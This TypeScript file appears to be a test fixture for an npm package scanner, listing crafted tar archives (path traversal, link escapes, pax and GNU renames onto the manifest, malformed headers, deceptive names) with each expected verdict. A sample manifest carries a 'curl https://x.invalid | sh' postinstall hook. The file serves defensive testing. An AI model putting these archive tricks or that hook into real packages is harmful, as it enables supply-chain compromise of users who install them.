import type { HostileArchive } from './archive';
import { entry, pax, tgz } from './tar';

/** An npm hook that the scanner calls malicious wherever it sees it. */
const HOOK = JSON.stringify({
  name: 'sample',
  version: '1.0.0',
  scripts: { postinstall: 'curl https://x.invalid | sh' },
});
const base256 = (bytes: readonly number[]) =>
  Buffer.from([...bytes, ...Array<number>(12).fill(0)].slice(0, 12));

const header = (told: Parameters<typeof entry>[0]) => entry(told).subarray(0, 512);
const npm = (
  what: string,
  build: HostileArchive['build'],
  verdict: HostileArchive['verdict'],
  rule: string,
) => ({ ecosystem: 'npm', what, build, verdict, rule }) as const;

export const TAR_TRICKS: readonly HostileArchive[] = [
  npm(
    'a path that climbs out',
    () => tgz({ name: 'package/../../../etc/cron.d/x', content: 'x' }),
    'suspicious',
    'archive-unsafe-path',
  ),
  npm(
    'an absolute path',
    () => tgz({ name: '/etc/cron.d/x', content: 'x' }),
    'suspicious',
    'archive-unsafe-path',
  ),
  npm(
    'a drive letter',
    () => tgz({ name: 'C:/Windows/x.dll', content: 'x' }),
    'suspicious',
    'archive-unsafe-path',
  ),
  npm(
    'backslashes that climb out',
    () => tgz({ name: 'package\\..\\..\\x', content: 'x' }),
    'suspicious',
    'archive-unsafe-path',
  ),
  npm(
    'backslashes as separators',
    () => tgz({ name: 'package\\lib\\x.js', content: 'x' }),
    'warning',
    'archive-odd-name',
  ),
  npm(
    'a path that climbs by its prefix',
    () => tgz({ name: 'x', prefix: 'package/../..', content: 'x' }),
    'suspicious',
    'archive-unsafe-path',
  ),
  npm(
    'a symbolic link to outside',
    () => tgz({ name: 'package/l', type: '2', linkname: '../../../../etc' }),
    'suspicious',
    'archive-link',
  ),
  npm(
    'a symbolic link within',
    () => tgz({ name: 'package/l', type: '2', linkname: 'package.json' }),
    'suspicious',
    'archive-link',
  ),
  npm(
    'a file through a link',
    () => tgz({ name: 'package/l', type: '2', linkname: '/tmp' }, { name: 'package/l/x', content: 'x' }),
    'suspicious',
    'archive-link',
  ),
  npm(
    'links that point at each other',
    () =>
      tgz({ name: 'package/a', type: '2', linkname: 'b' }, { name: 'package/b', type: '2', linkname: 'a' }),
    'suspicious',
    'archive-link',
  ),
  npm(
    'a chain of links',
    () =>
      tgz(
        ...Array.from({ length: 60 }, (_, at) => ({
          name: `package/${at}`,
          type: '2',
          linkname: `${at + 1}`,
        })),
      ),
    'suspicious',
    'archive-link',
  ),
  npm(
    'a hard link to outside',
    () => tgz({ name: 'package/l', type: '1', linkname: '/etc/passwd' }),
    'suspicious',
    'archive-link',
  ),
  npm(
    'a hard link over the manifest',
    () =>
      tgz(
        { name: 'package/l', type: '1', linkname: 'package/package.json' },
        { name: 'package/l', content: HOOK },
      ),
    'suspicious',
    'archive-link',
  ),
  npm(
    'a link with content that hides the next entry',
    () =>
      tgz({
        name: 'package/l',
        type: '2',
        linkname: 'x',
        content: entry({ name: 'package/package.json', content: HOOK }),
      }),
    'suspicious',
    'archive-link',
  ),
  npm(
    'a pax header that makes a file a link',
    () => tgz(pax({ linkpath: '/etc/passwd' }), { name: 'package/l', type: '2', linkname: 'harmless' }),
    'suspicious',
    'archive-link',
  ),
  npm(
    'a character device',
    () => tgz({ name: 'package/d', type: '3' }),
    'suspicious',
    'archive-special-entry',
  ),
  npm('a pipe', () => tgz({ name: 'package/p', type: '6' }), 'suspicious', 'archive-special-entry'),
  npm(
    'an unknown type of entry',
    () => tgz({ name: 'package/p', type: 'Q' }),
    'suspicious',
    'archive-special-entry',
  ),
  npm(
    'a sparse file (GNU)',
    () => tgz({ name: 'package/s.js', type: 'S', content: 'x' }),
    'suspicious',
    'archive-special-entry',
  ),
  npm(
    'a sparse file (pax)',
    () =>
      tgz(pax({ 'GNU.sparse.major': '1', 'GNU.sparse.name': 'package/index.js' }), {
        name: 'package/x',
        content: 'x',
      }),
    'suspicious',
    'archive-special-entry',
  ),
  npm(
    'a pax header that renames to the manifest',
    () => tgz(pax({ path: 'package/package.json' }), { name: 'package/readme', content: HOOK }),
    'malicious',
    'hook-remote-code',
  ),
  npm(
    'a GNU long name that renames to the manifest',
    () =>
      tgz(
        { name: '././@LongLink', type: 'L', content: 'package/package.json\0' },
        { name: 'package/readme', content: HOOK },
      ),
    'malicious',
    'hook-remote-code',
  ),
  npm(
    'a pax header with another size',
    () => tgz(pax({ size: '4' }), { name: 'package/a.js', content: 'x'.repeat(2000) }),
    'unknown',
    'archive-corrupt',
  ),
  npm(
    'a pax header for all entries, with a size',
    () => tgz(pax({ size: '600' }, 'g'), { name: 'package/a.js', content: 'x' }),
    'suspicious',
    'archive-ambiguous',
  ),
  npm(
    'a pax header of no records',
    () =>
      tgz(
        { name: 'x', type: 'x', content: 'garbage without any length\n' },
        { name: 'package/a.js', content: 'x' },
      ),
    'suspicious',
    'archive-ambiguous',
  ),
  npm(
    'a negative size in base 256',
    () => tgz(header({ name: 'package/a.js', sizeField: base256(Array<number>(12).fill(0xff)) })),
    'unknown',
    'archive-corrupt',
  ),
  npm(
    'a size of 2^80 in base 256',
    () => tgz(header({ name: 'package/a.js', sizeField: base256([0x80, 0, 1]) })),
    'unknown',
    'archive-corrupt',
  ),
  npm(
    'a size that is no number',
    () => tgz(header({ name: 'package/a.js', sizeField: 'zzzzzzzzzzz\0' })),
    'unknown',
    'archive-corrupt',
  ),
  npm(
    'a checksum that is none',
    () => tgz({ name: 'package/a.js', content: 'x', checksum: 'zzzzzzz\0' }),
    'unknown',
    'archive-corrupt',
  ),
  npm(
    'a header of no known format',
    () => tgz({ name: 'package/a.js', content: 'x', magic: 'nothing\0' }),
    'unknown',
    'archive-corrupt',
  ),
  npm(
    'the same path twice',
    () => tgz({ name: 'package/a.js', content: '1' }, { name: 'package/a.js', content: '2' }),
    'suspicious',
    'archive-duplicate-entry',
  ),
  npm(
    'paths that differ in case',
    () => tgz({ name: 'package/Index.js', content: '1' }, { name: 'package/index.js', content: '2' }),
    'warning',
    'archive-odd-name',
  ),
  npm(
    'paths that differ in how accents are spelled',
    () =>
      tgz({ name: 'package/caf\u00e9.js', content: '1' }, { name: 'package/cafe\u0301.js', content: '2' }),
    'warning',
    'archive-odd-name',
  ),
  npm(
    'two manifests',
    () => tgz({ name: 'package/package.json', content: HOOK }),
    'malicious',
    'archive-duplicate-entry',
  ),
  npm(
    'two top folders',
    () => tgz({ name: 'other/package.json', content: HOOK }),
    'malicious',
    'archive-duplicate-entry',
  ),
  npm(
    'a manifest in another case',
    () => tgz({ name: 'package/Package.json', content: HOOK }),
    'warning',
    'archive-odd-name',
  ),
  npm(
    'a NUL in a name',
    () => tgz(pax({ path: 'package/a.js\u0000.txt' }), { name: 'x', content: 'x' }),
    'suspicious',
    'archive-unsafe-path',
  ),
  npm(
    'a line break in a name',
    () => tgz({ name: 'package/a\nb.js', content: 'x' }),
    'suspicious',
    'archive-unsafe-path',
  ),
  npm(
    'a name that turns text around',
    () => tgz({ name: 'package/a\u202esj.exe', content: 'x' }),
    'warning',
    'file-name-deceptive',
  ),
];
